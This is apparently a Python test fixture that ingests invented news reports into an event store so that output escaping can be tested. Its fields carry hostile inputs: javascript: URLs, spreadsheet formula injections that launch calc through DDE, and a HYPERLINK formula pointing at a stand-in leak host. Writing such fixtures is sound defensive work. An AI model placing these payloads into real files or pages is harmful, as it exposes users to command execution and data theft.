"""A small store built by a real ingest of reports whose fields a stranger chose: source urls that
run script (javascript:, in any case), outlets and ids that start a spreadsheet formula. The
reports are made up here (invented leaders meeting in real capitals)."""
from __future__ import annotations

import json
from pathlib import Path

SCRIPT_URL = "javascript:alert(1)"
SAFE_URL = "https://news.example.org/a?b=1"
FORMULA_DOC_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_ACTOR = '=HYPERLINK("http://evil.example/?leak","open me")'

REPORTS = [
    {"doc_id": FORMULA_DOC_ID, "url": SCRIPT_URL, "outlet": "=cmd|' /C calc'!A0", "published": "2024-03-05",
     "title": "Leaders meet in Vienna",
     "text": "Chancellor Edvard Marlow met President Ilse Varga in Vienna on Monday, officials said. "
             "The two leaders discussed gas supplies and border crossings during the talks. "
             "Marlow said the meeting had been constructive."},
    {"doc_id": "mixed-case", "url": "JaVaScRiPt:alert(2)", "outlet": "+Daily", "published": "2024-04-10",
     "title": "Talks in Lisbon",
     "text": "Prime Minister Tomas Renner visited Lisbon on Wednesday and met President Carla Duarte Mendes. "
             "The two leaders signed an agreement on fishing rights. Renner thanked Mendes for her hospitality."},
    {"doc_id": "plain", "url": SAFE_URL, "outlet": "-Wire", "published": "2024-05-02",
     "title": "Envoys in Nairobi",
     "text": "Foreign Minister Abel Okonjo met his counterpart Miriam Lenz in Nairobi on Thursday. "
             "The two ministers talked about a new trade route."},
]


def write_reports(folder: Path) -> Path:
    path = folder / "hostile.jsonl"
    path.write_text("".join(json.dumps(report) + "\n" for report in REPORTS), encoding="utf-8")
    return path


def build(folder: Path, location: str | Path | None = None) -> str | Path:
    """Ingest the reports into `location` (a store file or database URL; default a file in
    `folder`), then give the first actor of an event a name that starts a formula, as a report could."""
    from eventscribe.ingest import ingest
    from eventscribe.store import Store
    location = location or folder / "hostile.db"
    with Store(location) as store:
        ingest([write_reports(folder)], store)
        with store.connection:
            store.connection.execute("UPDATE actors SET name = ? WHERE actor_id IN (SELECT actor_id FROM"
                                     " actor_aliases WHERE alias = ?)", (FORMULA_ACTOR, "Edvard Marlow"))
    return location
